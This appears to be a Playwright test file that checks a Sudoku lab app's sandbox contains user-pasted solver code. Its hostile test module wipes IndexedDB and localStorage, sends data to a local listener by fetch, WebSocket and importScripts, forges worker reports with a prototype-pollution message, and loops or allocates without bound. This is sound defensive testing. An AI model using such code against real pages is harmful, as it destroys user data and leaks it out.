/**
 * A solver someone pastes in is code from anywhere: it runs in a sandbox (an
 * opaque-origin frame with its own process and a classic worker, src/sandbox/), and
 * these tests add hostile modules through the app's own "Add your solver" panel and
 * run them as a user would. A module that tries, on load and on every solve, every
 * door out (the app's IndexedDB and localStorage, cookies, the network, the frame's
 * parent, messages to the page, forging its own reports) gets through none: the
 * saved runs and the saved Play game are untouched, no request leaves, nothing
 * breaks on the page, and its answers are still checked. A module that loops for
 * ever is stopped at the time limit, and one that allocates without bound takes down
 * its own sandbox's process only.
 */
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type CDPSession, type Page } from '@playwright/test'
import { chooseAlgorithms, chooseCollection, normalLine, STARTER, STARTER_4 } from './helpers'

const PORT = Number(process.env.E2E_PORT ?? 4173)
const BACKTRACKING = readFileSync(
  new URL('../../examples/solvers/backtracking.mjs', import.meta.url),
  'utf8',
)

/** The backtracking example renamed `name`, with `before` run first in every solve. */
function solverModule(name: string, before: string, prelude = ''): string {
  return (
    prelude +
    BACKTRACKING.replace(
      "export const name = 'Plain backtracking'",
      `export const name = '${name}'`,
    )
      // Wrapped in a solve of its own, so `before` runs first in every solve.
      .replace(
        'export default function solve(puzzle, options) {',
        'function plainSolve(puzzle, options) {',
      ) +
    `\nexport default function solve(puzzle, options) {\n${before}\n  return plainSolve(puzzle, options)\n}\n`
  )
}

/**
 * Tries every way out it can think of, at load and in every solve; then lies about
 * itself: it replaces the port's postMessage to claim every answer right and fast,
 * and posts made-up notes and Comlink-shaped messages of its own.
 */
const hostilePrelude = (port: number) => `
const tried = []
async function attack() {
  const attempt = async (f) => { try { tried.push(await f()) } catch (e) { tried.push(String(e)) } }
  await attempt(() => new Promise((ok, fail) => {
    const open = indexedDB.open('sudoku-lab')
    open.onsuccess = () => {
      const db = open.result
      for (const store of db.objectStoreNames) db.transaction(store, 'readwrite').objectStore(store).clear()
      ok('cleared')
    }
    open.onerror = () => fail(open.error)
  }))
  await attempt(() => indexedDB.deleteDatabase('sudoku-lab'))
  await attempt(() => localStorage.setItem('sudoku-lab-play', 'stolen'))
  await attempt(() => localStorage.clear())
  await attempt(() => (document.cookie = 'stolen=1'))
  await attempt(() => fetch('http://127.0.0.1:${port}/x?' + String(tried)))
  await attempt(() => fetch('/x-relative'))
  await attempt(() => import('http://127.0.0.1:${port}/x-import'))
  await attempt(() => { importScripts('http://127.0.0.1:${port}/x-script') })
  await attempt(() => new WebSocket('ws://127.0.0.1:${port}/x-socket'))
  await attempt(() => self.postMessage({ harness: 'x', code: 'x', garbage: new Uint8Array(1e6) }))
  await attempt(() => self.postMessage(undefined))
  await attempt(() => parent.localStorage.clear())
  await attempt(() => top.document.body.remove())
}
await attack()
const post = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (m, t) {
  post.call(this, { sandbox: 'done', timing: { index: 0, us: 1, ok: true, answer: 'solved' }, answer: [] })
  post.call(this, { id: 'forged', type: 'SET', path: ['__proto__', 'polluted'], value: { type: 'RAW', value: 1 } })
  return post.call(this, m, t)
}
`

const results = (page: Page) => page.getByRole('region', { name: 'Results' })
const history = (page: Page) => page.getByRole('region', { name: 'History', exact: true })

/** Add a solver through Compare's "Add your solver" panel, as a user pastes one. */
async function addSolver(page: Page, code: string, name: string): Promise<void> {
  await page.getByRole('button', { name: 'Add your solver' }).click()
  await page.getByRole('textbox', { name: 'Solver code' }).fill(code)
  await page.getByRole('textbox', { name: 'Name' }).fill(name)
  await page.getByRole('button', { name: 'Add', exact: true }).click()
  await expect(page.getByRole('button', { name: `Remove ${name}` })).toBeVisible({
    timeout: 30_000,
  })
}

/** The saved Play game and the saved runs, read from the page's own storage. */
async function savedState(page: Page): Promise<{ play: string | null; runs: number }> {
  return page.evaluate(async () => {
    const runs = await new Promise<number>((resolve, reject) => {
      const open = indexedDB.open('sudoku-lab')
      open.onerror = () => reject(open.error)
      open.onsuccess = () => {
        const db = open.result
        const count = db.transaction('runs').objectStore('runs').count()
        count.onsuccess = () => {
          db.close()
          resolve(count.result)
        }
        count.onerror = () => reject(count.error)
      }
    })
    return { play: localStorage.getItem('sudoku-lab-play'), runs }
  })
}

/** A game in progress in Play (saved in localStorage) and one saved Compare run. */
async function somethingSaved(page: Page): Promise<{ play: string | null; runs: number }> {
  await page.goto('/#/play')
  const cell = page.getByRole('gridcell', { name: /empty/ }).first()
  await cell.click()
  await page.keyboard.press('5')
  await expect
    .poll(() => page.evaluate(() => localStorage.getItem('sudoku-lab-play')))
    .not.toBe(null)
  await page.goto('/#/compare')
  await chooseAlgorithms(page, ['Fast'])
  await chooseCollection(page, STARTER_4)
  await page.getByRole('button', { name: 'Run comparison' }).click()
  await expect(history(page).getByRole('listitem')).toHaveCount(1, { timeout: 60_000 })
  const saved = await savedState(page)
  expect(saved.runs).toBe(1)
  return saved
}

/**
 * Every request of the page, its frames and their workers that went out for
 * something not the app's own file. A request the sandbox's policy blocks is
 * reported to Playwright too (as DevTools lists it, "blocked:csp") but fails with
 * "csp" before it leaves the browser: those are kept apart.
 */
function foreignRequests(page: Page): { sent: string[]; blocked: string[] } {
  const sent: string[] = []
  const blocked: string[] = []
  const own = (u: string) => {
    const url = new URL(u)
    return (
      url.origin === `http://localhost:${PORT}` &&
      (url.pathname === '/' ||
        url.pathname === '/sandbox.html' ||
        url.pathname.startsWith('/assets/') ||
        url.pathname.startsWith('/examples/') ||
        /^\/[\w.-]+\.(svg|ico|png|webmanifest)$/.test(url.pathname))
    )
  }
  page.on('requestfinished', (r) => {
    if (!own(r.url()) || r.resourceType() === 'fetch') sent.push(r.url())
  })
  page.on('requestfailed', (r) => {
    const why = r.failure()?.errorText ?? ''
    if (why === 'csp' || why === 'net::ERR_BLOCKED_BY_CSP') blocked.push(r.url())
    else if (!own(r.url())) sent.push(`${r.url()} (${r.failure()?.errorText})`)
  })
  return { sent, blocked }
}

/** A server of the test's own that counts every request reaching it (the module aims at it). */
async function listening(): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = []
  const server = createServer((req, res) => {
    hits.push(req.url ?? '')
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' })
    res.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, port: (server.address() as AddressInfo).port, hits }
}

test('a hostile solver reaches nothing of the page, and its answers are still checked', async ({
  page,
}) => {
  test.setTimeout(180_000)
  const errors: string[] = []
  page.on('pageerror', (e) => errors.push(e.message))
  const requests = foreignRequests(page)
  const target = await listening()
  // Anything of the module's that reached the app's own server would be counted too.
  let reached = 0
  await page.route(/\/x[-?]|\/x$/, (route) => {
    reached++
    return route.fulfill({ status: 204 })
  })
  const before = await somethingSaved(page)

  const hostile = solverModule('Hostile', '  attack()', hostilePrelude(target.port))
  await addSolver(page, hostile, 'Hostile')
  await chooseAlgorithms(page, ['Fast', 'Hostile'])
  await page.getByRole('button', { name: 'Run comparison' }).click()
  await expect(history(page).getByRole('listitem')).toHaveCount(2, { timeout: 120_000 })

  // It solved every puzzle, checked on the page: its forged notes changed nothing.
  const scatter = page.getByRole('figure').filter({ hasText: 'Each puzzle: time against' })
  await scatter.getByRole('button', { name: 'Show as table' }).click()
  for (let k = 1; k <= 4; k++)
    await expect(scatter.getByRole('row', { name: new RegExp(`^#${k} Hostile`) })).toContainText(
      'solved',
    )
  await expect(results(page).getByRole('table').first()).toContainText('Hostile')

  const after = await savedState(page)
  expect(after.play).toBe(before.play)
  expect(after.runs).toBe(2) // the one saved before, and this run
  expect(await page.evaluate(() => document.cookie)).toBe('')
  expect(await page.evaluate(() => 'polluted' in Object.prototype)).toBe(false)
  target.server.close()
  expect(target.hits).toEqual([])
  expect(reached).toBe(0)
  expect(requests.sent).toEqual([])
  // What it tried was stopped by the sandbox page's policy, inside the browser.
  expect(requests.blocked.length).toBeGreaterThan(0)
  expect(errors).toEqual([])
})

const LOOPING = normalLine(STARTER[1]!)

test('a solver that loops for ever is stopped at the time limit, and the run goes on', async ({
  page,
}) => {
  test.setTimeout(180_000)
  const errors: string[] = []
  page.on('pageerror', (e) => errors.push(e.message))
  const before = await somethingSaved(page)
  const loop = `  if (puzzle === '${LOOPING}') for (;;) {}`
  await addSolver(page, solverModule('Looping', loop), 'Looping')
  await chooseAlgorithms(page, ['Looping'])
  // The page stays responsive while the sandbox spins: it keeps drawing frames (the
  // worst gap is reported, not judged: how long a frame takes is the machine's speed).
  await page.getByRole('button', { name: 'Run comparison' }).click()
  const worstGap = await page.evaluate(async () => {
    let worst = 0
    let last = performance.now()
    const end = last + 4000
    while (performance.now() < end) {
      await new Promise(requestAnimationFrame)
      worst = Math.max(worst, performance.now() - last)
      last = performance.now()
    }
    return worst
  })
  console.log(`worst frame gap while a sandbox looped: ${worstGap.toFixed(0)} ms`)
  expect(Number.isFinite(worstGap)).toBe(true)
  await expect(history(page).getByRole('listitem')).toHaveCount(2, { timeout: 120_000 })

  const scatter = page.getByRole('figure').filter({ hasText: 'Each puzzle: time against' })
  await scatter.getByRole('button', { name: 'Show as table' }).click()
  await expect(scatter.getByRole('row', { name: /^#2 Looping/ })).toContainText('timed out')
  // A fresh sandbox went on with the puzzles after it.
  for (const k of [1, 3, 4])
    await expect(scatter.getByRole('row', { name: new RegExp(`^#${k} Looping`) })).toContainText(
      'solved',
    )
  await expect(
    results(page)
      .getByRole('table')
      .first()
      .getByRole('row', { name: /^Looping/ }),
  ).toContainText('1 timed out')
  expect((await savedState(page)).play).toBe(before.play)
  expect(errors).toEqual([])
})

/** Evaluate in the page through CDP: after a frame's process crashed, Playwright's own evaluate refuses. */
async function cdpValue(cdp: CDPSession, expression: string): Promise<unknown> {
  const { result, exceptionDetails } = await cdp.send('Runtime.evaluate', {
    expression,
    awaitPromise: true,
    returnByValue: true,
  })
  if (exceptionDetails) throw new Error(exceptionDetails.text)
  return result.value
}

test('a solver that allocates without bound takes down its own sandbox only', async ({ page }) => {
  test.setTimeout(180_000)
  const errors: string[] = []
  page.on('pageerror', (e) => errors.push(e.message))
  const before = await somethingSaved(page)
  // Flattened 256 MB strings kept for ever: the sandbox's process runs out of memory.
  const grow = `  if (puzzle === '${LOOPING}') {
    const kept = []
    for (let i = 0; ; i++) {
      const s = String(i) + 'x'.repeat(2 ** 28 - 16)
      s.indexOf('y')
      kept.push(s)
    }
  }`
  await addSolver(page, solverModule('Greedy', grow), 'Greedy')

  // In the Solve view (a minute's limit), so the process dies before any time limit.
  await page.goto(`/?p=${LOOPING}#/solve`)
  const cdp = await page.context().newCDPSession(page)
  await page.getByRole('combobox', { name: 'Algorithm' }).selectOption({ label: 'Greedy (yours)' })
  await expect
    .poll(
      () =>
        cdpValue(cdp, 'document.body.innerText').then((t) =>
          String(t).includes("the solver's worker stopped (out of memory or crashed)"),
        ),
      { timeout: 60_000 },
    )
    .toBe(true)

  // The page lives on: its clock, its storage, its saved runs.
  const ticks = await cdpValue(
    cdp,
    'new Promise((ok) => { let n = 0; const t = setInterval(() => ++n === 5 && (clearInterval(t), ok(n)), 20) })',
  )
  expect(ticks).toBe(5)
  expect(await cdpValue(cdp, "localStorage.getItem('sudoku-lab-play')")).toBe(before.play)
  const runs = await cdpValue(
    cdp,
    `new Promise((ok, fail) => { const o = indexedDB.open('sudoku-lab'); o.onerror = () => fail(o.error);
      o.onsuccess = () => { const c = o.result.transaction('runs').objectStore('runs').count(); c.onsuccess = () => ok(c.result) } })`,
  )
  expect(runs).toBe(before.runs)
  expect(errors).toEqual([])
})
